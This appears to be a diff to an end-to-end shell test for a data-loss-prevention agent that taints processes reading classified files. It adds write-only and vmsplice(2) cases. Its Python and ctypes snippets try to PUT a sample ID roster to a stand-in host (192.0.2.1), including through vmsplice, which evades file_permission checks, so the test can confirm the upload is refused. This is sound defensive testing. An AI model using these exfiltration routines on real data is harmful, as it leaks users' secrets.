@@ -10,7 +10,10 @@
 # fresh Class III file is sent once the agent has classified it (and a pending one resolves
 # to allowed by itself), so the test fails both ways. With the learner held up (its parser
 # workers stopped) the refusals are "content not yet classified"; Class I content read and
-# then overwritten with Class III content before the learner came is still refused.
+# then overwritten with Class III content before the learner came is still refused. A program
+# that creates a file write-only and sends is not held (nothing was read). vmsplice(2), which
+# no file_permission check sees, carries taint both ways: into a pipe (its reader is refused)
+# and out of a marked pipe (also when the call waited before the tainted writer wrote).
 # e2e-timeout: 600
 . "$E2E_SRCDIR/guest/agent.sh"
 . "$E2E_SRCDIR/guest/taint.sh"
@@ -152,7 +155,7 @@ G=$U/notes.txt
 e2e_as hanako sh -c "printf 'lunch menu FRESH-III-DATA\n' >'$G'"
 resolved=$(status taint_resolved)
 e2e_as hanako cat "$G" >/dev/null
-for ((j = 0; j < 100; j++)); do [ "$(status taint_resolved)" -gt "$resolved" ] && break; sleep 0.1; done
+for ((j = 0; j < 300; j++)); do [ "$(status taint_resolved)" -gt "$resolved" ] && break; sleep 0.1; done
 [ "$(status taint_resolved)" -gt "$resolved" ] || fail "the agent never resolved the Class III file's pending mark"
 e2e_as hanako timeout 60 bash -c "cat '$G' | $C --data-binary @- $URL" >"$E2E_SCRATCH/iii.out" 2>&1 ||
 	fail "a classified Class III file was refused: $(cat "$E2E_SCRATCH/iii.out") $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
@@ -255,3 +258,99 @@ echo "$rec" | grep -F 'not yet classified' >/dev/null &&
 	fail "eviction: the Class I reader was still refused as not yet classified after the agent gave its verdict again: $rec"
 echo "$rec" | grep -F '"class":"I"' >/dev/null || fail "eviction: the last refusal is not a Class I taint: $rec"
 note "eviction: $evicted verdicts evicted; the Class III reader $(cat "$E2E_SCRATCH/evict3.out"), the Class I reader refused; $(($(status taint_republished) - rp0)) verdicts given again"
+
+# A write-only open (O_WRONLY|O_CREAT|O_TRUNC) gives the file's version a pending number like
+# any other open (fanotify does not say how a file was opened), but nothing is read through
+# it: the writer is not made pending, and sends at once; a later reader of what it wrote is
+# pending on the new version until the learner has classified it, then sends (Class III).
+W=$U/written.txt
+ps0=$(status taint_pending_set)
+pr0=$(status taint_pending_read)
+e2e_as hanako timeout 60 python3 -c '
+import os, socket, sys, time
+fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+os.write(fd, b"plain notes WRITEONLY-FILE\n" * 10)
+s = socket.create_connection(("192.0.2.1", 8080), 10)
+s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: 20\r\n\r\nWRITEONLY-SENT-DATA\n")
+s.close()
+os.close(fd)
+print("write-only: sent", file=sys.stderr)
+d = open(sys.argv[1], "rb").read()
+for i in range(100):
+    try:
+        s = socket.create_connection(("192.0.2.1", 8080), 10)
+        s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: 300\r\n\r\n" + d)
+        s.close()
+        print("read back: sent after", i, "refusals", file=sys.stderr)
+        sys.exit(0)
+    except PermissionError:
+        time.sleep(0.2)
+sys.exit(1)' "$W" >"$E2E_SCRATCH/writeonly.out" 2>&1 ||
+	fail "write-only: refused: $(cat "$E2E_SCRATCH/writeonly.out") $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
+grep -q WRITEONLY-SENT-DATA "$recv" || fail "write-only: the listener did not receive the writer's send"
+grep -q WRITEONLY-FILE "$recv" || fail "write-only: the listener did not receive the file read back"
+: >"$recv"
+# (In a subshell: the output file was written by a pending process, so reading it through a
+# command substitution would make this shell, and all it starts later, pending too.)
+(note "write-only: $(tr '\n' ' ' <"$E2E_SCRATCH/writeonly.out"); pending marks +$(($(status taint_pending_set) - ps0)), pending reads +$(($(status taint_pending_read) - pr0))")
+
+# vmsplice(2) moves user memory into a pipe, or pipe pages out to user memory, with no
+# file_permission check of the pipe. A tainted writer's vmsplice into a pipe must mark it
+# (its untainted reader, which connected first, is then refused), and an untainted reader's
+# vmsplice out of a marked pipe must taint it, also when it waited in the call before the
+# tainted writer wrote (python3 through ctypes: it has no os.vmsplice).
+V=$U/vms-roster.csv
+# (Counted before the file is written: the learner may judge it from the writer's open.)
+marked=$(status taint_marked)
+e2e_as hanako sh -c "printf '氏名,個人番号\n山田,123456789018\nVMSPLICE-SECRET\n' >'$V'"
+for ((j = 0; j < 100; j++)); do
+	[ "$(status taint_marked)" -gt "$marked" ] && break
+	e2e_as hanako cat "$V" >/dev/null || true
+	sleep 0.2
+done
+[ "$(status taint_marked)" -gt "$marked" ] || fail "vmsplice: the agent never marked $V"
+cat >"$E2E_SCRATCH/vms.py" <<'PY'
+import ctypes, os, socket, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+def vmsplice(fd, buf, n):
+    iov = iovec(ctypes.cast(buf, ctypes.c_void_p), n)
+    r = libc.vmsplice(fd, ctypes.byref(iov), ctypes.c_ulong(1), ctypes.c_uint(0))
+    if r < 0:
+        raise OSError(ctypes.get_errno(), "vmsplice")
+    return r
+if sys.argv[1] == "write":  # read FILE, vmsplice it into stdout (a pipe)
+    d = open(sys.argv[2], "rb").read()
+    buf = ctypes.create_string_buffer(d, len(d))
+    print("vmspliced", vmsplice(1, buf, len(d)), file=sys.stderr)
+    time.sleep(3)  # the pages stay this process's until the reader took them
+else:  # connect, then vmsplice out of stdin (a pipe), then send what came
+    s = socket.create_connection(("192.0.2.1", 8080), 10)
+    s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n")
+    if len(sys.argv) > 2:
+        open(sys.argv[2], "w").close()
+    buf = ctypes.create_string_buffer(65536)
+    n = vmsplice(0, buf, 65536)
+    print("read", n, file=sys.stderr)
+    s.sendall(buf.raw[:n])
+PY
+chmod 0644 "$E2E_SCRATCH/vms.py"
+vdenied() { # NAME COMMAND: as hanako, must not deliver the roster, and one more refusal logged
+	local name=$1 before rc=0 i
+	before=$(denials)
+	e2e_as hanako timeout 30 bash -c "$2" >"$E2E_SCRATCH/$name.out" 2>&1 || rc=$?
+	[ "$rc" -ne 124 ] || fail "$name: hung: $(cat "$E2E_SCRATCH/$name.out")"
+	[ "$rc" -ne 0 ] || fail "$name: succeeded (exit 0): $(cat "$E2E_SCRATCH/$name.out")"
+	if grep -q VMSPLICE-SECRET "$recv"; then fail "$name: the listener received the roster: $(cat "$E2E_SCRATCH/$name.out")"; fi
+	for ((i = 0; i < 50; i++)); do
+		[ "$(denials)" -gt "$before" ] && break
+		sleep 0.1
+	done
+	[ "$(denials)" -gt "$before" ] || fail "$name: no upload.denied (bpf-lsm) logged"
+	grep -q "^read [1-9]" "$E2E_SCRATCH/$name.out" || fail "$name: refused before the reader read: $(cat "$E2E_SCRATCH/$name.out")"
+	note "$name: refused (exit $rc), logged"
+}
+vdenied vmsplice-into-pipe "python3 '$E2E_SCRATCH/vms.py' write '$V' | python3 -c 'import os,socket,sys; s=socket.create_connection((\"192.0.2.1\", 8080), 10); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); d=os.read(0, 65536); print(\"read\", len(d), file=sys.stderr); s.sendall(d)'"
+rm -f "$shm/vms.ready"
+vdenied vmsplice-out-of-pipe "(for i in \$(seq 100); do [ -e '$shm/vms.ready' ] && break; sleep 0.1; done; sleep 1; cat '$V') | python3 '$E2E_SCRATCH/vms.py' read '$shm/vms.ready'"
